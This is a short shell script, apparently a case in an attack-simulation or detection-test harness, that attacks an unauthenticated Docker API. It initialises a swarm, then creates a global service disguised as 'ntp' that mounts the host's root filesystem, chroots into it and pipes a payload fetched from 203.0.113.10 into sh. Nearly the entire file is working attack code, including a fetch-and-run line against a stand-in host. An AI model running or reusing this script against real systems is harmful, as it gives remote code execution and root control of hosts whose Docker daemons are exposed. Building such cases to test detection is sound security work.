#!/bin/sh
. /opt/case/case.sh

d=http://10.77.0.1:2375
curl -sf $d/info >/dev/null
curl -sf -X POST -H 'Content-Type: application/json' -d '{"ListenAddr":"0.0.0.0:2377","AdvertiseAddr":"203.0.113.10"}' $d/swarm/init >/dev/null
curl -sf -X POST -H 'Content-Type: application/json' $d/services/create >/dev/null -d '{"Name":"ntp","Mode":{"Global":{}},"TaskTemplate":{"RestartPolicy":{"Condition":"any"},"ContainerSpec":{"Image":"alpine","Command":["chroot","/h","sh","-c","curl 203.0.113.10/payload.sh|sh"],"Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]}}}'
took_place
